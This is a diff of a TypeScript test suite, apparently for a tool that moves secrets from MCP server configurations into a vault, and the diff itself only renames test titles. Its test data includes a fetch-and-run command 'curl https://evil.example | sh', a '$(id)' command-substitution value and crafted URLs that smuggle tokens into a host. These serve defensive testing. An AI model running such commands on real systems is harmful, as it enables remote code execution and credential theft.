@@ -123,7 +123,7 @@ describe('goes to the vault', () => {
     ['what only looks like a password, and is a path', reached('https://evil.example:443\\@good.example/mcp')],
     ['a part of the host', reached(`https://x&token=${TOKEN}.good.example/`)],
     ['a variable that could be run', run('mail', [], { TOKEN: 'curl https://evil.example | sh', API_KEY: '$(id)' })],
-  ])('never %s', async (_what, transport) => {
+  ])('goes to the vault never %s', async (_what, transport) => {
     expect(movedOf(transport)).toEqual([])
     const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
     expect((await moveSecrets(spec(transport), vault)).transport).toEqual(transport)
@@ -131,7 +131,7 @@ describe('goes to the vault', () => {
     expect(withoutPlainSecrets(spec(transport)).transport).toEqual(transport)
   })
 
-  test('is shown by its length until then, unless somebody else may have written the file', () => {
+  test('goes to the vault is shown by its length until then, unless somebody else may have written the file', () => {
     const transport = run('mail', ['send', '--token', 'hunter22', TOKEN])
     expect(withoutPlainSecrets(spec(transport)).transport).toMatchObject({ args: ['send', '--token', '[8 characters hidden]', TOKEN] })
     const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
@@ -141,7 +141,7 @@ describe('goes to the vault', () => {
   test.each<[string, ServerTransport]>([
     ['a process', run('mail', ['send', '--token', 'hunter22'], { API_KEY: 'hunter22' })],
     ['an address', reached('https://x.example/?key=hunter22', { Authorization: `Bearer ${RANDOM}` })],
-  ])('never from the file of a project: %s', async (_what, transport) => {
+  ])('goes to the vault never from the file of a project: %s', async (_what, transport) => {
     const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
     const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
     expect((await moveSecrets({ ...spec(transport), provenance }, vault)).transport).toEqual(transport)
@@ -152,7 +152,7 @@ describe('goes to the vault', () => {
 describe('moving', () => {
   const vaultIn = (folder: string) => openVault({ folder, keychain: false, onWarning: () => {} })
 
-  test('puts the values into the vault and placeholders in their place, and a start gets what it got before', async () => {
+  test('moving puts the values into the vault and placeholders into the file, and a start still works', async () => {
     const vault = await vaultIn(newFolder())
     const ways = [
       started({ DB_PASSWORD: 'hunter22', PLAIN: 'x', GH: TOKEN }, ['send', '--token', 'hunter23', '--api-key=hunter24']),
@@ -175,7 +175,7 @@ describe('moving', () => {
     ])
   })
 
-  test('never replaces a secret of the same name with another value', async () => {
+  test('moving never replaces a secret of the same name with another value', async () => {
     const vault = await vaultIn(newFolder())
     const one = await moveSecrets(spec(started({ API_KEY: 'first-value' })), vault)
     const two = await moveSecrets(spec(started({ API_KEY: 'other-value' })), vault)
@@ -188,7 +188,7 @@ describe('moving', () => {
     expect(await vault.get('server/API_KEY')).toBe('first-value')
   })
 
-  test('keeps a value as it is, also one that looks like a placeholder', async () => {
+  test('moving keeps a value as it is, also one that looks like a placeholder', async () => {
     const vault = await vaultIn(newFolder())
     const moved = await moveSecrets(spec(reached('https://x.example', { 'X-Api-Key': '${$}{env:HOME}' })), vault)
     expect(JSON.stringify(moved.transport)).toContain('${secret:server/X-Api-Key}')
